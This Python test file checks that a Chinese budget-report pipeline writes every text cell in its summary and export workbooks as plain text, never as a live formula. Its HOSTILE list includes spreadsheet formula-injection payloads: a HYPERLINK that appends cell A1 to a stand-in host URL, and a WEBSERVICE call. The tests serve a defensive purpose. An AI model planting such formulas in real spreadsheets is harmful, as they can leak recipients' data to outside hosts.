"""Every text cell annex writes is text, whatever it starts with (issue 21.7): a project name typed as
`=HYPERLINK(…)` is never a live formula in the build's 汇总表 or in `annex export`'s workbook, and the
export of any data that passes check reads back to the same data."""

from __future__ import annotations

import io
import json
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, assume, given, settings, strategies as st

from pipeline.build.front import check_year
from pipeline.form.summary import build_summary
from pipeline.render.xlsx import render_summary_xlsx
from pipeline.write.workbook import export_year
from scenarios import make_year

HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=WEBSERVICE(\"http://x.invalid\")", "=1+1",
           "+1", "-2+3", "@SUM(A1)", "=", "=A1")


def _project_yaml(name: str, implementer: str, level3: str, target: str, actual: str, reason: str) -> str:
    q = lambda t: json.dumps(t, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar
    return f"""项目名称: {q(name)}
项目实施单位: {q(implementer)}
项目类别: 部门预算项目
项目属性: 持续性项目
项目类型: 常年性项目
预算数: "60.50"
执行数: "58"
年度绩效目标:
  - 指标:
      - 一级指标: 产出指标
        二级指标: 数量指标
        三级指标: {q(level3)}
        年初目标值: {q(target)}
        实际完成值: {q(actual)}
偏差原因分析: {q(reason)}
改进措施: {q(reason)}
"""


def _year_with(root: Path, texts: tuple[str, ...]) -> Path:
    year = make_year(root)
    (year / "projects" / "01-示例项目.yaml").write_text(_project_yaml(*texts), encoding="utf-8")
    return year


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", z.read(n))]


def _forms(year: Path) -> list:
    result = check_year(year)
    assert result.errors == [], [(i.code, i.cell, i.message) for i in result.errors]
    return [replace(f, key="") for f in result.bundle.forms]


def test_the_summary_workbook_writes_hostile_text_as_text(tmp_path):
    year = _year_with(tmp_path, (HOSTILE[0], HOSTILE[1], "x", "1", "1", "无"))
    result = check_year(year)
    assert result.errors == []
    data = render_summary_xlsx(build_summary(result.bundle, result.input.variant))
    assert _formulas(data) == []
    (tmp_path / "s.xlsx").write_bytes(data)
    ws = openpyxl.load_workbook(tmp_path / "s.xlsx").active
    texts = [c.value for row in ws.iter_rows() for c in row]
    assert HOSTILE[0] in texts and HOSTILE[1] in texts


def test_export_writes_hostile_text_as_text_and_reads_it_back(tmp_path):
    year = _year_with(tmp_path, HOSTILE[:6])
    expected = _forms(year)
    export_year(year, year / "自评数据.xlsx", force=False)
    assert _formulas((year / "自评数据.xlsx").read_bytes()) == []
    shutil.rmtree(year / "projects")
    assert _forms(year) == expected  # no workbook-formula-uncached, the same texts


# Texts a clerk (or someone hostile) may type: formula starters, digits, percent, quotes, full-width
# digits, CJK, inner spaces and line breaks. Whatever check accepts must come back unchanged.
_CHARS = st.sampled_from(list("=+-@'\"%,.()&/:：；0123456789０１２万元人民调解件≥≤ \nAaZz"))
_TEXT = st.builds(lambda first, rest: first + rest, st.sampled_from(["=", "+", "-", "@", "", "0", "１", "'"]),
                  st.text(_CHARS, min_size=1, max_size=30))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.tuples(_TEXT, _TEXT, _TEXT, _TEXT, _TEXT, _TEXT))
def test_export_of_any_checked_data_reads_back_to_the_same_data(tmp_path_factory, texts):
    root = tmp_path_factory.mktemp("t")
    year = _year_with(root, texts)
    result = check_year(year)
    assume(result.errors == [])
    expected = [replace(f, key="") for f in result.bundle.forms]
    export_year(year, year / "自评数据.xlsx", force=False)
    shutil.rmtree(year / "projects")
    again = check_year(year)
    assert [(i.code, i.cell) for i in again.errors] == []
    assert [replace(f, key="") for f in again.bundle.forms] == expected
